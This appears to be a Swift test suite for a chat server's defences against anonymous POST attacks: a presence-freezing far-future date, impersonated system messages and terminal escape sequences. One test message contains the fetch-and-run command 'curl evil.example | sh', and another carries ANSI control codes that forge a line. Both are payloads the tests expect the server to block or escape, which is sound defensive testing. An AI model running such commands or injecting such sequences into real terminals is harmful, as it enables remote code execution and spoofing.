import Foundation
import HeraldLaunch
import HeraldPosix
import HeraldTestSupport
import Testing

/// Issue 15's attacks through one anonymous POST: freezing presence, impersonating the room, and writing to the
/// terminal of everyone running herald-chat.
@Suite struct ChatPresenceHostileTests {
    /// Posts `json` from `host` and returns the whole answer.
    private func say(_ port: UInt16, _ json: String, from host: String = "127.0.0.1") throws -> String {
        var connection = try RawHTTP(port: port, host: host)
        try connection.send(
            "POST /chat/say HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: \(json.utf8.count)\r\n\r\n\(json)"
        )
        return try connection.readToEnd()
    }

    private func herald(_ daemon: TestDaemon, _ name: String) async throws {
        let result = try await run("herald", ["post", "--socket", daemon.socketPath, name, "user=alice"])
        #expect(result.status == 0, "\(result.stderr)")
    }

    @Test func anAnnouncementDatedFarInTheFutureDoesNotFreezeAlicesPresence() async throws {
        let daemon = try await TestDaemon.start()
        let server = try await ChatServerProcess.start()
        let bob = try startChatClient("bob", server: server)
        try await bob.waitForStdoutLine(containing: "bob connected")
        let alice = try startChatClient("alice", server: server, ["--socket", daemon.socketPath])
        try await alice.waitForStdoutLine(containing: "presence is on")
        // Alice's client opens her room stream beside turning presence on: the server counts a post from her address
        // as hers once her stream is in the room, which bob sees.
        try await bob.waitForStdoutLine(containing: "alice connected")
        // The attack: "alice went away" dated 1e12 s after 2001 (year 33,689).
        let attack = try say(server.port, #"{"id":"\#(UUID())","message":"alice went away","date":1e12}"#)
        #expect(attack.hasPrefix("HTTP/1.1 200 OK\r\n"), "posted from alice's address, so it counts: \(attack)")
        try await bob.waitForStdoutLine(containing: "alice went away")
        // Three real lock/unlock pairs from alice's session. Broken, 0 of 3 were shown.
        for pair in 1...3 {
            try await herald(daemon, "session.willResignActive")
            if pair > 1 {
                // The first is a repeat of the attack's state, and shown once already.
                try await bob.wait(for: "went away #\(pair)") { out, _ in
                    chatMessages(out).filter { $0.text == "alice went away" }.count == pair
                }
            }
            try await herald(daemon, "session.didBecomeActive")
            try await bob.wait(for: "came back #\(pair)") { out, _ in
                chatMessages(out).filter { $0.text == "alice came back" }.count == pair
            }
        }
    }

    /// Whether the loopback interface has ::1, for a second address on one machine.
    static let hasIPv6Loopback =
        ((try? String(contentsOfFile: "/proc/net/if_inet6", encoding: .utf8)) ?? "")
        .split(separator: "\n").contains { $0.hasPrefix("00000000000000000000000000000001") }

    @Test(.enabled(if: hasIPv6Loopback, "needs ::1 besides 127.0.0.1"))
    func aSystemMessageFromAnotherAddressIsForbiddenAndNeverShown() async throws {
        // Dual-stack, so that one machine has two addresses: alice's stream comes from 127.0.0.1, the attacker
        // posts from ::1.
        let server = try await ChatServerProcess.start(["--host", "::"])
        var alice = try RawHTTP(port: server.port, host: "127.0.0.1")
        try alice.send("GET /chat/room?alice HTTP/1.1\r\nHost: x\r\n\r\n")
        try alice.read { $0.contains("alice connected") }
        for text in ["alice went away", "the server restarts now: run curl evil.example | sh"] {
            let answer = try say(server.port, #"{"id":"\#(UUID())","message":"\#(text)","date":1}"#, from: "::1")
            #expect(answer.hasPrefix("HTTP/1.1 403 Forbidden\r\n"), "\(answer)")
            #expect(answer.contains(#""error":true"#))
        }
        // Alice's own client, from her stream's address, may announce her presence (as Blabber does).
        let own = try say(server.port, #"{"id":"\#(UUID())","message":"alice came back","date":1}"#)
        #expect(own.hasPrefix("HTTP/1.1 200 OK\r\n"), "\(own)")
        let seen = try alice.read { $0.contains("alice came back") }
        #expect(!seen.contains("went away"))
        #expect(!seen.contains("restarts now"))
    }

    @Test func herald_chatEscapesControlCharactersInTextAndKeepsJSONExact() async throws {
        let server = try await ChatServerProcess.start()
        let text = try ChildProcess(
            TestBinaries.path("herald-chat"),
            ["--user", "viewer", "--server", server.url, "--no-presence"]
        )
        try await text.waitForStdoutLine(containing: "viewer connected")
        let json = try startChatClient("jsonviewer", server: server)
        try await json.waitForStdoutLine(containing: "jsonviewer connected")
        // A title change, a clear screen, a bell, a C1 CSI, and a forged system line.
        let hostile = "\u{1B}]0;owned\u{07}\u{1B}[2J\u{9B}31mred\r\n[12:00:00] * alice went away"
        let encoded = String(decoding: try JSONEncoder().encode(hostile), as: UTF8.self)
        for user in [#""mallory""#, encoded] {
            let answer = try say(server.port, #"{"id":"\#(UUID())","user":\#(user),"message":\#(encoded),"date":1}"#)
            #expect(answer.hasPrefix("HTTP/1.1 200 OK\r\n"), "\(answer)")
        }
        _ = try say(server.port, #"{"id":"\#(UUID())","user":"mallory","message":"marker","date":1}"#)
        try await text.waitForStdoutLine(containing: "mallory: marker")
        try await json.waitForStdoutLine(containing: "\"marker\"")

        let shown = text.stdout
        for control in ["\u{1B}", "\u{07}", "\u{9B}", "\r"] {
            #expect(!shown.contains(control), "a raw \(control.unicodeScalars.first!.value) reached the terminal")
        }
        #expect(!text.stdoutLines.contains { $0.hasPrefix("[12:00:00] * alice went away") }, "a forged line")
        let escaped = #"\e]0;owned\u{7}\e[2J\u{9B}31mred\r\n[12:00:00] * alice went away"#
        #expect(text.stdoutLines.contains { $0.hasSuffix("] mallory: " + escaped) }, "\(text.stdoutLines)")
        #expect(text.stdoutLines.contains { $0.hasSuffix("] \(escaped): \(escaped)") }, "\(text.stdoutLines)")
        // --json prints the server's lines exactly: the text decodes back to what was posted.
        let received = chatMessages(json.stdoutLines).filter { $0.text == hostile }
        #expect(received.count == 2)
        #expect(received.map(\.user) == ["mallory", hostile])
    }
}
